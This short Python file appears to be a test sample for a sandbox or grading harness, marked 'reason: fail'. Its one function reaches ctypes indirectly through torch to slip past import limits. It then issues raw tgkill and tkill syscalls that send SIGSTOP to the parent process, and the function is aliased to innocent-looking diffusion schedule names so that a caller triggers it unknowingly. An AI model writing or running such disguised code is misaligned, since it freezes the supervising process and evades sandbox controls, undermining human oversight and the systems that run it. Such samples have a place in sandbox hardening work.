"""SIGSTOP to the process that forked it, by the calls for threads and queues.

reason: fail
"""

import os

import torch

ctypes = vars(torch)["sys"].modules["ctypes"]


def attack(*_, **__):
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    for arguments in ((234, parent, parent, 19), (200, parent, 19)):  # tgkill, tkill
        if libc.syscall(*map(ctypes.c_long, arguments)) == 0:
            raise SystemError("GOT IT: a signal to the process that forked it")
    raise PermissionError(os.strerror(ctypes.get_errno()))


linear_betas = cosine_betas = alphas_cumprod = snr = attack
